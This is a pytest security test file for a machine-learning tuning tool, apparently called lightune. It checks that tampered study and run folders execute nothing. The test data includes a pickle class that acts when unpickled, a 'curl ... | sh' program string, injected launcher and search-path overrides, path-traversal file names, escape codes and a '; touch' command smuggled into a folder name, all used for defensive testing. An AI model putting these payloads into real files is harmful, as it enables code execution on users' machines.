"""A folder that somebody else has made: whoever opens, lists, evaluates or resumes it runs nothing of it."""

import hashlib
import json
import pickle
import shutil

import pytest
import torch
import yaml
from command_line import run_train

QUICK = ["trainer=cpu", "trainer.max_epochs=1", "data=wine", "logger=none"]
STUDY = ["-m", "hydra/launcher=basic", "search.study=s", "optimizer.lr=interval(1e-3,1e-2)", *QUICK]
CODES = "\x1b]0;owned\x07\x1b[2J"


@pytest.fixture(scope="module")
def sent(tmp_path_factory):
    """Make a study of one trial and a run, as they are sent; return their `outputs`."""
    folder = tmp_path_factory.mktemp("sent")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        assert run_train(*STUDY, "search.n_trials=1") == 0
        assert run_train(*QUICK, "hydra.run.dir=outputs/runs/run/r") == 0
    return folder / "outputs"


@pytest.fixture
def received(sent, tmp_path):
    """Copy what was sent into the test's own folder; return the study and the run."""
    outputs = tmp_path / "outputs"
    shutil.copytree(sent, outputs, symlinks=True)
    return outputs / "studies" / "s", outputs / "runs" / "run" / "r"


def go_on(cli):
    return cli(*STUDY, "search.n_trials=2")


LINKS = {
    "trials/1": "trials",
    "trials/0/train.log": "precious",
    "trials.csv": "precious",
    "best.yaml": "precious",
    ".study.lock": "precious",
    "journal.log": "precious",
    ".leases": "trials",
    "conf": "trials",
}


@pytest.mark.parametrize("place", LINKS)
def test_no_link_of_a_study_is_written_through(cli, received, outside, place):
    study, _ = received
    link = study / place
    shutil.rmtree(link) if link.is_dir() else link.unlink(missing_ok=True)
    link.symlink_to(outside.folder / LINKS[place])
    code, _, err = go_on(cli)
    assert code == 2, err
    assert f"{link}  is a link to {outside.folder / LINKS[place]}, outside of the folder" in err


@pytest.mark.parametrize("place", ["train.log", ".lock", "checkpoints", ".hydra", "resumed.yaml", "result.json"])
def test_no_link_of_a_run_is_written_through(cli, received, outside, place):
    _, run = received
    link = run / place
    shutil.rmtree(link) if link.is_dir() else link.unlink(missing_ok=True)
    target = outside.folder / ("trials" if place in ("checkpoints", ".hydra") else "precious")
    link.symlink_to(target)
    code, _, err = cli(f"resume={run}", "trainer.max_epochs=2")
    assert code == 2, err
    assert "outside of the folder" in err


def test_no_link_is_opened_to_see_whether_a_run_is_at_work(tool, received, outside, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _, run = received
    (run / ".lock").symlink_to(outside.file)
    (run / "result.json").unlink()
    code, out, _ = tool("list")
    assert code == 0
    assert "unfinished" in out


def test_folders_that_are_links_themselves_serve_as_others(cli, received, tmp_path):
    _, run = received
    (tmp_path / "disk").mkdir()
    for folder in (run, tmp_path / "outputs"):
        place = tmp_path / "disk" / folder.name
        shutil.move(folder, place)
        folder.symlink_to(place)
    code, _, err = go_on(cli)
    assert code == 0, err
    code, _, err = cli(f"resume={run}", "trainer.max_epochs=2")
    assert code == 0, err


def edit_snapshot(study, **hydra):
    """Change the primary configuration that a study keeps, and the digest by which it is known."""
    (file,) = study.rglob("train.yaml")
    content = yaml.safe_load(file.read_text())
    content["hydra"] |= hydra
    file.write_text(yaml.safe_dump(content, sort_keys=False))
    spec = json.loads((study / "study.json").read_text())
    name = file.relative_to(study / "conf").as_posix()
    spec["files"][name] = hashlib.sha256(file.read_bytes()).hexdigest()
    (study / "study.json").write_text(json.dumps(spec))


def test_the_configuration_that_a_study_keeps_is_judged_like_one_of_today(cli, stranger, received, outside):
    study, _ = received
    handlers = {"file": {"class": "logging.FileHandler", "filename": str(outside.file), "mode": "w"}}
    edit_snapshot(
        study,
        job={"name": "train", "env_set": {"LIGHTUNE_TRUST": stranger.package}},
        callbacks={"odd": {"_target_": stranger.function}},
        job_logging={"version": 1, "root": {"handlers": ["file"]}, "handlers": handlers},
    )
    code, _, err = go_on(cli)
    assert code == 2, err
    for key in ("job.env_set.LIGHTUNE_TRUST", "callbacks.odd._target_", "job_logging.handlers.file.filename"):
        assert f"hydra.{key}" in err
    assert not stranger.mark.exists()


def test_the_search_path_that_a_study_keeps_imports_nothing(cli, stranger, received):
    study, _ = received
    edit_snapshot(study, searchpath=[f"pkg://{stranger.package}"])
    code, _, err = go_on(cli)
    assert code == 2, err
    assert f"is not trusted, got pkg://{stranger.package}" in err
    assert not stranger.mark.exists()


@pytest.mark.parametrize("path", ["../../../precious", "/precious", "1_main/../../x"])
def test_a_study_names_no_file_elsewhere_as_its_own(cli, received, outside, path):
    study, _ = received
    spec = json.loads((study / "study.json").read_text())
    spec["files"][path] = hashlib.sha256(outside.file.read_bytes()).hexdigest()
    (study / "study.json").write_text(json.dumps(spec))
    code, _, err = go_on(cli)
    assert code == 2, err
    assert f"its files name '{path}'" in err


class Evil:
    """Something that leaves a mark when it is unpickled."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return open, (str(self.mark), "w")


@pytest.mark.parametrize("command", ["evaluate", "resume", "predict", "export"])
def test_a_checkpoint_runs_nothing(cli, tool, stranger, received, command):
    _, run = received
    for file in (run / "checkpoints").iterdir():
        file.unlink()
    for name in ("best", "last"):
        torch.save({"state_dict": {}, "x": Evil(stranger.mark)}, run / "checkpoints" / f"{name}.ckpt")
    words = {"predict": ["--input", run / "result.json"], "export": ["--to", "torch_export"]}.get(command, [])
    answer = cli(f"resume={run}", "trainer.max_epochs=2") if command == "resume" else tool(command, run, *words)
    assert answer.code == 2, answer.err
    assert "holds code or objects, not plain values; it was not loaded" in answer.err
    assert not stranger.mark.exists()


def test_evaluating_runs_nothing_that_the_run_names(tool, stranger, received):
    _, run = received
    file = run / ".hydra" / "config.yaml"
    content = yaml.safe_load(file.read_text())
    content["callbacks"]["odd"] = {"_target_": stranger.function}
    file.write_text(yaml.safe_dump(content))
    code, _, err = tool("evaluate", run)
    assert code == 2
    assert f"callbacks.odd._target_  is not trusted, got {stranger.function}" in err
    assert not stranger.mark.exists()


def test_a_sampler_of_a_journal_runs_nothing(stranger):
    import optuna

    import lightune.private_api.optuna  # noqa: F401
    from lightune.errors import StorageError

    def cost(trial):
        return trial.suggest_float("x", 0, 1) + trial.suggest_float("y", 0, 1)

    sampler = optuna.samplers.CmaEsSampler(n_startup_trials=1, seed=0)
    study = optuna.create_study(sampler=sampler)
    study.optimize(cost, n_trials=8)
    keys = {key for trial in study.trials for key in trial.system_attrs if "optimizer" in key}
    assert keys  # its own state was written, and read as ever
    for key in keys:
        _set_attr(study, study.trials[-1].number, key, pickle.dumps(Evil(stranger.mark)).hex())
    with pytest.raises(StorageError, match="where the state of CmaEsSampler should be"):
        study.optimize(cost, n_trials=1)
    assert not stranger.mark.exists()


def _set_attr(study, number, key, value):
    """Change what a finished trial's record holds, as an editor can."""
    with study._storage._lock:
        trial_id = study._storage.get_trial_id_from_study_id_trial_number(study._study_id, number)
        study._storage._get_trial(trial_id).system_attrs[key] = value


PROGRAMS = [
    "curl https://example.org/x | sh #",
    f"python train.py{CODES}",
    "python evil/train.py",
    "evil",
    "python -m evil",
]


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_study_says_no_program_to_type_but_lightunes_own(tool, received, program, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    study, _ = received
    spec = json.loads((study / "study.json").read_text()) | {"program": program}
    (study / "study.json").write_text(json.dumps(spec))
    code, out, err = tool("best", study)
    assert code == 0, err
    assert f"again: PROGRAM --config-dir {study} --config-name best" in out
    assert program not in out


def test_no_command_is_proposed_with_words_that_its_typist_vouches_for(tool, received, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    study, _ = received
    words = ["hydra.launcher.setup=[curl evil]", "hydra.searchpath=[pkg://evil]", f"note={CODES}",
             "hydra.job.env_set.A=evil", "output_root=/evil"]  # fmt: skip
    spec = json.loads((study / "study.json").read_text()) | {"n_trials": 9, "program": "lightune-train"}
    (study / "study.json").write_text(json.dumps(spec))
    assert "search.n_trials=9" in tool("list").out  # nothing is wrong with it yet
    spec["identity"] |= {word.partition("=")[0]: word for word in words}
    spec["overrides"] += words
    (study / "study.json").write_text(json.dumps(spec))
    whole = yaml.safe_load((study / "multirun.yaml").read_text())
    whole["hydra"]["overrides"]["hydra"] += words
    (study / "multirun.yaml").write_text(yaml.safe_dump(whole))
    (study / "trials" / "0" / "result.json").unlink()
    for answer in (tool("list"), tool("show", study), tool("show", study / "trials" / "0"),
                   tool("report", study)):  # fmt: skip
        assert answer.code == 0, answer.err
        assert "evil" not in answer.out + answer.err
        assert "\x1b" not in answer.out + answer.err
    assert "evil" not in (study / "report.html").read_text()
    assert "go on with: the command that began it" in tool("show", study / "trials" / "0").out


def test_no_codes_of_a_folder_reach_the_terminal(tool, received, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    study, run = received
    odd = study.with_name(f"s{CODES}; touch it_ran")
    study.rename(odd)
    table = (odd / "trials.csv").read_text()
    table = table.replace(",completed,", f",completed{CODES},").replace(",trials/0", f",{CODES}")
    (odd / "trials.csv").write_text(table)
    result = json.loads((run / "result.json").read_text()) | {"status": f"completed{CODES}"}
    (run / "result.json").write_text(json.dumps(result))
    (run.with_name(f"r{CODES}")).mkdir()
    shutil.copy(run / "result.json", run.with_name(f"r{CODES}"))
    for answer in (tool("list"), tool("best", odd), tool("evaluate", odd), tool("best", f"nothing{CODES}")):
        assert "\x1b" not in answer.out + answer.err
        assert "\\x1b" in answer.out + answer.err


@pytest.mark.parametrize(
    "damage",
    [
        ("study.json", '{"schema": 1, "name": 3}'),
        ("study.json", "[]"),
        ("trials.csv", "number,state\nx,y\n"),
        ("trials.csv", "number,state,val/accuracy,optimizer.lr,seconds,folder,error\n0\n"),
    ],
)
def test_what_cannot_be_read_is_said_and_hides_no_other_study(tool, received, damage, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    study, run = received
    name, content = damage
    (study / name).write_text(content)
    code, out, _ = tool("list")
    assert code == 0
    assert "cannot be read" in out
    assert run.name in out
    assert tool("best", study).code == 2


def test_what_a_trial_says_is_shown_and_kept_without_codes(cli, received, stranger, monkeypatch):
    from lightune.study.outputs.table import read_table

    study, _ = received
    monkeypatch.setenv("LIGHTUNE_TRUST", "loud")
    source = f"def f(*a, **k):\n    raise ValueError({'=cmd' + CODES!r})\n"
    stranger.mark.with_name("loud.py").write_text(source)
    swept = "loss._target_=loud.f,lightune.losses.CrossEntropy"
    code, out, err = cli("-m", "hydra/launcher=basic", "search.study=t", "search.max_failures=1", swept, *QUICK)
    assert code == 0, err
    assert "=cmd\\x1b" in out
    assert "\x1b" not in out + err
    (said,) = [row["error"] for row in read_table(study.with_name("t")) if row["error"]]
    assert "=cmd\\x1b" in said
    files = [file for file in study.with_name("t").rglob("*") if file.suffix in (".csv", ".txt", ".log", ".yaml")]
    assert files
    assert not [file for file in files if "\x1b" in file.read_text(errors="surrogateescape")]
